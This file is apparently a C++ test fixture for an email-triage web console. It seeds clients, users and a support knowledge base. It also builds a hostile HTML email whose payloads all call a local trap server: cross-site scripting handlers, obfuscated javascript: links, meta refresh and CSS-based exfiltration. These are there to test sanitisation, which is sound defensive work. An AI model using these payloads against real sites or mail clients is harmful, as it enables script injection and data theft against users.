#include "web_world.hpp"

#include "postgres.hpp"

#include "core/secrets.hpp"
#include "engine/replies.hpp"
#include "store/repos.hpp"
#include "support/kb.hpp"
#include "support/repo.hpp"
#include "web/auth.hpp"
#include "web/booking_page.hpp"

namespace sk::test {
namespace {

std::string plain(const std::string& from, const std::string& subject, const std::string& body,
                  int n) {
  return "From: " + from + "\r\nTo: owner@acme.example\r\nSubject: " + subject +
         "\r\nDate: Mon, 16 Jun 2025 10:0" + std::to_string(n % 10) +
         ":00 +0000\r\nMessage-ID: <m" + std::to_string(n) + "@test.example>\r\n\r\n" + body +
         "\r\n";
}

// acme's knowledge base: nothing in it answers a question about returns.
constexpr const char* kAcmeKb = R"(
[settings]
threshold = 0.8
tone = "friendly"
signature = "Acme Widgets customer care"

[[entry]]
key = "shipping-time"
question = "How long does shipping take?"
variants = ["When will my order arrive?", "How many days for delivery?", "What are your delivery times?"]
answer = "Orders leave within 2 working days and arrive 3-5 days later."
tags = ["shipping"]

[[entry]]
key = "opening-hours"
question = "When are you open?"
variants = ["What are your opening hours?", "Are you open on Saturday?"]
answer = "We are open Monday to Friday, 9 to 17."
tags = ["shop"]

[[entry]]
key = "gift-wrap"
question = "Do you gift wrap?"
variants = ["Can you wrap my order as a present?", "Is gift wrapping available?"]
answer = "Yes: add a note to your order and we wrap it for free."
tags = ["orders"]
)";

}  // namespace

std::string hostile_message(int trap) {
  const std::string t = "http://127.0.0.1:" + std::to_string(trap);
  return "From: Mallory <mallory@evil.example>\r\nTo: owner@acme.example\r\n"
         "Subject: <img src=" +
         t +
         "/subject onerror=alert(1)> Invoice overdue\r\n"
         "Date: Mon, 16 Jun 2025 11:00:00 +0000\r\nMessage-ID: <hostile@evil.example>\r\n"
         "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
         "<html><head><link rel=stylesheet href=\"" +
         t +
         "/link.css\">"
         "<meta http-equiv=\"refresh\" content=\"0;url=" +
         t +
         "/refresh\">"
         "<style>@import url(" +
         t + "/import.css); body{background:url(" + t +
         "/bg.png)} input[value^=a]{background:url(" + t +
         "/exfil-a)}</style>"
         "<script>fetch('" +
         t +
         "/script');document.title='pwned'</script></head>"
         "<body onload=\"fetch('" +
         t +
         "/onload')\">"
         "<p id=hello>Please pay the invoice.</p>"
         "<img src=\"" +
         t +
         "/tracker.gif\" alt=\"logo\" width=1 height=1>"
         "<img src=\"" +
         t + "/photo.png\" alt=\"team photo\" width=120 height=40 onload=\"fetch('" + t +
         "/photo-onload')\" srcset=\"" + t +
         "/photo-2x.png 2x\">"
         "<img src=x onerror=\"fetch('" +
         t +
         "/onerror')\">"
         "<a id=jslink href=\"javascript:fetch('" +
         t +
         "/jslink')\">click me</a> "
         "<a id=jslink2 href=\"jav&#x09;ascript:fetch('" +
         t +
         "/jslink2')\">or me</a> "
         "<a id=good href=\"https://example.com/pay\">pay here</a>"
         "<div style=\"background-image:url(" +
         t +
         "/style-attr)\">styled</div>"
         "<iframe src=\"" +
         t + "/iframe\"></iframe><object data=\"" + t +
         "/object\"></object>"
         "<embed src=\"" +
         t + "/embed\"><video poster=\"" + t +
         "/poster\"></video>"
         "<svg><image href=\"" +
         t + "/svg\"></image><script>fetch('" + t +
         "/svg-script')</script></svg>"
         "<form action=\"" +
         t +
         "/form\"><input name=q value=abc><button>go</button></form>"
         "<table background=\"" +
         t +
         "/table-bg\"><tr><td>cell</td></tr></table>"
         "</body></html>\r\n";
}

WebWorld::WebWorld(int trap) : trap_port(trap) {
  db_path = test_database_location(dir.str() + "/sidekick.db");
  db = store::open_database(db_path).value();
  EXPECT_TRUE(store::migrate(*db).ok());
  ids = std::make_unique<store::DbIds>(*db);
  engine = std::make_unique<engine::Engine>(*db, clock, *ids, triage::SpamModel{});
  acme =
      store::create_client(*db, *ids, clock, "acme", "Acme Widgets", "owner@acme.example").value();
  globex =
      store::create_client(*db, *ids, clock, "globex", "Globex Corp", "ceo@globex.example").value();
  EXPECT_TRUE(store::set_relationship(*db, *ids, clock, acme.id, "vip@bigcustomer.example",
                                      Relationship::vip)
                  .ok());
  add_mail(acme, "vip", plain("VIP <vip@bigcustomer.example>", "Contract renewal", "Call me.", 1));
  add_mail(acme, "first",
           plain("Ann <ann@newcustomer.example>", "Question about pricing",
                 "How much for 100 widgets?", 2));
  add_mail(acme, "second",
           plain("Bob <bob@prospect.example>", "Partnership", "Can we talk next week?", 3));
  add_mail(acme, "third",
           plain("Cid <cid@someone.example>", "Hello again", "Following up on my note.", 4));
  add_mail(acme, "hostile", hostile_message(trap_port));
  add_mail(
      globex, "globex1",
      plain("Gail <gail@globex-partner.example>", "Globex secret plan", "Only for Globex.", 5));
  add_mail(globex, "globex2",
           plain("Hal <hal@other.example>", "Globex budget", "Numbers inside.", 6));
  EXPECT_TRUE(engine->triage_pending(acme.id).ok());
  EXPECT_TRUE(engine->triage_pending(globex.id).ok());

  for (const auto& [c, item] :
       {std::pair{acme, items["second"]}, std::pair{globex, items["globex2"]}}) {
    engine::ReplyRequest req;
    req.answers = item;
    req.body = "Thank you for your note. Next week works; Tuesday at 10?";
    req.reason = "a meeting request; the client prefers mornings";
    auto d = engine::queue_reply(*db, clock, *ids, c.id, req, "triage");
    EXPECT_TRUE(d.ok()) << (d.ok() ? "" : d.error().message);
    drafts[c.slug] = d.ok() ? d->id : "";
  }

  // A customer's question the knowledge base does not know: escalated to the VA, with the
  // three closest entries as suggestions.
  auto kb = support::kb_from_toml(kAcmeKb, "acme-kb.toml");
  EXPECT_TRUE(kb.ok()) << (kb.ok() ? "" : kb.error().message);
  if (kb.ok()) {
    EXPECT_TRUE(support::replace_entries(*db, acme.id, kb->entries).ok());
    EXPECT_TRUE(
        support::save_settings(*db, acme.id, {*kb->threshold, *kb->signature, *kb->tone}).ok());
  }
  add_mail(acme, "support",
           "From: Dana <dana@shopper.example>\r\nTo: owner@acme.example\r\n"
           "Subject: A question about my order\r\nDate: Mon, 16 Jun 2025 12:00:00 +0000\r\n"
           "Message-ID: <support1@shopper.example>\r\n\r\n"
           "Hello, the mug from my order is not what I expected. How do I return it and get a "
           "refund?\r\n");
  EXPECT_TRUE(engine->triage_pending(acme.id).ok());

  struct U {
    const char* name;
    store::Role role;
    std::string client;
  };
  for (const U& u : {U{"admin", store::Role::admin, ""}, U{"va", store::Role::va, ""},
                     U{"acme-owner", store::Role::client, acme.id},
                     U{"globex-owner", store::Role::client, globex.id}}) {
    std::string pw = std::string("pw-") + u.name + "-" + random_token().substr(0, 8);
    auto rec =
        store::create_user(*db, *ids, clock, u.name, u.role, u.client, hash_password(pw).value())
            .value();
    passwords[u.name] = pw;
    tokens[u.name] = web::create_api_token(*db, *ids, clock, rec, "test").value();
    if (u.role == store::Role::va) {
      EXPECT_TRUE(store::assign(*db, rec.id, acme.id).ok());
    }
  }
}

std::string WebWorld::add_mail(const store::ClientRecord& c, const std::string& label,
                               const std::string& raw) {
  auto id = engine->intake_message(c.id, "test:" + label, raw, "test");
  EXPECT_TRUE(id.ok()) << (id.ok() ? "" : id.error().message);
  items[label] = id.ok() ? *id : "";
  return items[label];
}

web::Request request_for(const std::string& method, const std::string& target,
                         const std::string& body) {
  web::Request r;
  r.method = method;
  r.target = target;
  auto q = target.find('?');
  r.path = target.substr(0, q);
  if (q != std::string::npos) r.query = web::parse_query(target.substr(q + 1));
  r.body = body;
  return r;
}

std::unique_ptr<web::Console> WebWorld::console(web::ConsoleOptions options) const {
  std::string path = db_path;
  options.events_poll_ms = 100;
  options.booking_link_key = link_key;
  options.booking_base_url = "https://book.test";
  auto c = std::make_unique<web::Console>([path] { return store::open_database(path); }, clock,
                                          triage::SpamModel{}, options);
  // The public booking page is part of every console `sidekick serve` runs, so the route
  // checks (authorization matrix, security headers) cover it too.
  web::add_booking_page(*c, {link_key, "https://book.test"});
  return c;
}

}  // namespace sk::test
